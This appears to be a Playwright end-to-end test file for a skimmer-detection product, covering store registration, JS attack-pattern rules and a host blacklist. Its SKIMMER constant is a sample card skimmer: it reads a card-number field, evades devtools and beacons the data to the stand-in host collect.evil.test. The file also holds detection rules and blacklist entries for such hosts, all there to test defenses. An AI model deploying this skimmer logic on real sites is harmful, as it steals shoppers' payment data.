import { seriousViolations, settled } from './support/axe.ts';
import { demoOwner, expect, openSignedIn, signIn, test } from './support/fixtures.ts';

// Issue 17's other three screens over the real server: the online-store area where an administrator
// registers a store and a page to scan (with steps to checkout) and takes its evidence, the JS
// attack patterns with Vigil's default rules (a pasted skimmer tested against them, a rule of the
// company's own refused for a bad regex, saved, edited to a second version, a default switched off
// and on), and the JS blacklist with the demo list (a plain list imported, an entry added, set
// inactive and deleted, the CSV export). Each screen and a drawer is axe-clean.

/** A skimmer written for this test: base64-encodes what it collects, beacons it, hides from devtools. */
const SKIMMER = [
  "var card = document.querySelector('input[name=cc-number]');",
  "if (window.outerWidth - window.innerWidth > 160) { throw new Error('x'); }",
  "navigator.sendBeacon('https://collect.evil.test/c', btoa(JSON.stringify({ n: card.value })));",
].join('\n');

test('the store, rule and blacklist screens are axe-clean, with the default rules and the demo blacklist', async ({
  page,
}) => {
  await signIn(page);
  const problems: string[] = [];
  await page.goto('/vtex');
  await expect(page.getByRole('heading', { level: 1, name: 'Online-store area' })).toBeVisible();
  await expect(page.getByRole('table', { name: 'Online stores' }).or(page.getByText('No store yet'))).toBeVisible();
  for (const v of await seriousViolations(page, ['main'])) problems.push(`/vtex: ${v}`);

  await page.goto('/dork?sort=key');
  await expect(page.getByRole('heading', { level: 1, name: 'JS Attack Patterns' })).toBeVisible();
  const rule = page.locator('main tbody tr').filter({ hasText: 'VGL-ANTI-001' });
  await expect(rule).toContainText('Developer-tools detection');
  await expect(rule).toContainText('Vigil default');
  for (const v of await seriousViolations(page, ['main'])) problems.push(`/dork: ${v}`);
  await rule.getByRole('link').click();
  const drawer = page.getByTestId('rule-detail');
  await expect(drawer.getByTestId('rule-definition')).toContainText('matches the regex');
  await expect(drawer.getByTestId('rule-versions')).toContainText('Version 1');
  await settled(page, 'detail-drawer');
  for (const v of await seriousViolations(page, ['[data-testid="detail-drawer"]'])) problems.push(`rule drawer: ${v}`);

  await page.goto('/jsblacklist?q=collect.evil.test');
  await expect(page.getByRole('heading', { level: 1, name: 'JavaScript blacklist' })).toBeVisible();
  await expect(page.getByTestId('demo-badge')).toBeVisible();
  await expect(page.locator('main tbody tr').filter({ hasText: 'collect.evil.test' }).first()).toBeVisible();
  for (const v of await seriousViolations(page, ['main'])) problems.push(`/jsblacklist: ${v}`);
  console.log(`axe: store, rule and blacklist screens ${problems.length} serious/critical`);
  expect(problems).toEqual([]);
});

test('an administrator adds a store and a page with its steps, reads its schedule and evidence, and removes it', async ({
  page,
}) => {
  const id = Date.now().toString(36);
  const name = `E2E store ${id}`;
  const domain = `e2e-${id}.example`;
  await openSignedIn(page, '/vtex', demoOwner);
  await page.getByRole('button', { name: 'Add store' }).click();
  const storeDialog = page.getByRole('dialog', { name: 'Add store' });
  await storeDialog.getByRole('textbox', { name: /^Name/ }).fill(name);
  await storeDialog.getByRole('textbox', { name: /^Domains/ }).fill(domain);
  await storeDialog.getByRole('textbox', { name: 'Checkout URL' }).fill(`https://${domain}/checkout`);
  await storeDialog.getByRole('button', { name: 'Save store' }).click();
  await expect(storeDialog).toBeHidden();

  await page.getByRole('link', { name, exact: true }).click();
  const detail = page.getByTestId('store-detail');
  await expect(detail.getByRole('heading', { name })).toBeVisible();
  await settled(page, 'detail-drawer');
  await detail.getByRole('button', { name: 'Add page' }).click();
  const pageDialog = page.getByRole('dialog', { name: 'Add page' });
  // A URL outside the store's domains is refused under the field.
  await pageDialog.getByRole('textbox', { name: /^Page URL/ }).fill('https://elsewhere.example/checkout');
  await pageDialog.getByRole('button', { name: 'Save page' }).click();
  await expect(pageDialog.getByRole('textbox', { name: /^Page URL/ })).toHaveAttribute('aria-invalid', 'true');
  await pageDialog.getByRole('textbox', { name: /^Page URL/ }).fill(`https://${domain}/checkout`);
  await pageDialog.getByRole('combobox', { name: 'Page type' }).selectOption('payment');
  await pageDialog.getByRole('spinbutton', { name: /^Scan every/ }).fill('12');
  await pageDialog.getByRole('button', { name: 'Add step' }).click();
  await pageDialog.getByRole('textbox', { name: 'Step 1: CSS selector' }).fill('#to-payment');
  await pageDialog.getByRole('button', { name: 'Save page' }).click();
  await expect(pageDialog).toBeHidden();

  const card = detail.getByTestId('store-page');
  await expect(card).toContainText('Payment');
  await expect(card).toContainText('Every 12 hours');
  await expect(card).toContainText('1 step');
  const csv = await card.getByRole('link', { name: /\(CSV\)$/ }).getAttribute('href');
  const evidence = await page.request.get(csv ?? '');
  expect(evidence.status()).toBe(200);
  expect(evidence.headers()['content-type']).toContain('text/csv');
  expect(await evidence.text()).toContain(`https://${domain}/checkout`);
  for (const v of await seriousViolations(page, ['[data-testid="detail-drawer"]']))
    throw new Error(`store drawer: ${v}`);

  await detail.getByRole('button', { name: 'Remove store' }).click();
  const confirm = page.getByRole('alertdialog', { name: `Remove ${name}?` });
  await confirm.getByRole('button', { name: 'Remove store' }).click();
  await expect(page).not.toHaveURL(/[?&]store=/);
  await expect(page.getByRole('link', { name, exact: true })).toBeHidden();
});

test("an analyst tests a pasted skimmer, writes a rule of the company's own and switches a default rule", async ({
  page,
}) => {
  const id = Date.now().toString(36);
  await openSignedIn(page, '/dork?tab=test');
  const form = page.getByRole('form', { name: 'Test a script' });
  await form.getByRole('textbox', { name: 'Script' }).fill(SKIMMER);
  await form.getByRole('button', { name: 'Run the rules' }).click();
  const hits = page.getByTestId('rule-hit');
  await expect(hits.filter({ hasText: 'VGL-EXFIL-001' })).toBeVisible();
  await expect(hits.filter({ hasText: 'VGL-ANTI-001' })).toContainText('Developer-tools detection');

  await page.getByRole('tab', { name: 'Rules' }).click();
  await page.getByRole('button', { name: 'Add rule' }).click();
  const dialog = page.getByRole('dialog', { name: 'Add rule' });
  await dialog.getByRole('textbox', { name: /^Name/ }).fill(`E2E exfil host ${id}`);
  await dialog.getByRole('textbox', { name: /^Family/ }).fill('e2e');
  const definition = dialog.getByRole('textbox', { name: /^Definition/ });
  // Look-behind is not RE2: the server refuses it and says why.
  await definition.fill('{"conditions": [{"id": "lb", "target": "content", "op": "regex", "value": "(?<=x)y"}]}');
  await dialog.getByRole('button', { name: 'Save rule' }).click();
  await expect(dialog).toContainText('The regex does not compile');
  await definition.fill(
    '{"conditions": [{"id": "host", "target": "content", "op": "contains", "value": "collect.evil.test"}]}',
  );
  await dialog.getByRole('button', { name: 'Save rule' }).click();
  await expect(dialog).toBeHidden();

  await page.getByRole('searchbox', { name: 'Search rules' }).fill(`E2E exfil host ${id}`);
  await page.getByRole('link', { name: `E2E exfil host ${id}` }).click();
  const drawer = page.getByTestId('rule-detail');
  await settled(page, 'detail-drawer');
  await drawer.getByRole('button', { name: 'Edit rule' }).click();
  const edit = page.getByRole('dialog', { name: 'Edit rule' });
  await edit.getByRole('combobox', { name: 'Severity' }).selectOption('critical');
  await edit.getByRole('button', { name: 'Save rule' }).click();
  await expect(edit).toBeHidden();
  await expect(drawer.getByTestId('rule-versions')).toContainText('Version 2');
  await expect(drawer.getByTestId('rule-versions')).toContainText('Ana Analyst');
  await drawer.getByRole('button', { name: 'Delete rule' }).click();
  await page.getByRole('alertdialog').getByRole('button', { name: 'Delete rule' }).click();
  await expect(page).not.toHaveURL(/[?&]rule=/);

  // A default rule switched off for the company (by keyboard: the switch's input is visually hidden), and on again.
  await page.goto('/dork?q=VGL-OBF-003');
  const toggle = page.getByRole('checkbox', { name: 'VGL-OBF-003 enabled' });
  await expect(toggle).toBeChecked();
  await toggle.focus();
  await page.keyboard.press('Space');
  await expect(toggle).not.toBeChecked();
  await page.reload();
  await expect(toggle).not.toBeChecked();
  await toggle.focus();
  await page.keyboard.press('Space');
  await expect(toggle).toBeChecked();
  await page.reload();
  await expect(toggle).toBeChecked();
});

test('the blacklist: a plain list imported, an entry added, set inactive and deleted, the CSV export filtered', async ({
  page,
}) => {
  const id = Date.now().toString(36);
  const imported = `cdn-${id}.skim.example`;
  const added = `beacon-${id}.skim.example`;
  await openSignedIn(page, '/jsblacklist');
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  const upload = page.getByRole('dialog', { name: 'Import a file' });
  await upload.getByRole('combobox', { name: 'Format' }).selectOption('js-blacklist');
  await upload.getByLabel('File', { exact: true }).setInputFiles({
    name: 'iocs-e2e.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from(`# e2e\n${imported}\nnot a host!\n`),
  });
  await upload.getByRole('button', { name: 'Upload and import' }).click();
  // One line is no host: a partial import, said as such (issue 30).
  await expect(upload.getByTestId('import-status')).toHaveText('Done, partial', { timeout: 30_000 });
  await expect(upload.getByTestId('count-rejected')).toHaveText('1');
  await upload.getByRole('button', { name: 'Close' }).click();
  await page.getByRole('searchbox', { name: 'Search values, sources and notes' }).fill(imported);
  await expect(page.locator('main tbody tr').filter({ hasText: imported })).toContainText('iocs-e2e.txt');

  await page.getByRole('button', { name: 'Add entry' }).click();
  const add = page.getByRole('dialog', { name: 'Add entry' });
  await add.getByRole('textbox', { name: /^Value/ }).fill(added);
  await add.getByRole('textbox', { name: 'Family' }).fill('e2e');
  await add.getByRole('button', { name: 'Save entry' }).click();
  await expect(add).toBeHidden();
  await page.getByRole('searchbox', { name: 'Search values, sources and notes' }).fill(added);
  const row = page.locator('main tbody tr').filter({ hasText: added });
  await expect(row).toContainText('Host');
  await row.getByRole('button', { name: `Edit ${added}` }).click();
  const edit = page.getByRole('dialog', { name: 'Edit entry' });
  await edit.getByRole('combobox', { name: 'Status' }).selectOption('inactive');
  await edit.getByRole('button', { name: 'Save entry' }).click();
  await expect(row).toContainText('Inactive');

  // The export follows the list's filters once the search reached them (the box is debounced).
  const exportLink = page.getByRole('link', { name: 'Export CSV' });
  await expect(exportLink).toHaveAttribute('href', new RegExp(`[?&]q=${added.replaceAll('.', '\\.')}(&|$)`));
  const href = await exportLink.getAttribute('href');
  const exported = await page.request.get(href ?? '');
  expect(exported.status()).toBe(200);
  const text = await exported.text();
  expect(text).toContain(added);
  expect(text).not.toContain(imported);

  await row.getByRole('button', { name: 'Delete' }).click();
  await page
    .getByRole('alertdialog', { name: `Delete ${added}?` })
    .getByRole('button', { name: 'Delete' })
    .click();
  await expect(row).toBeHidden();
});
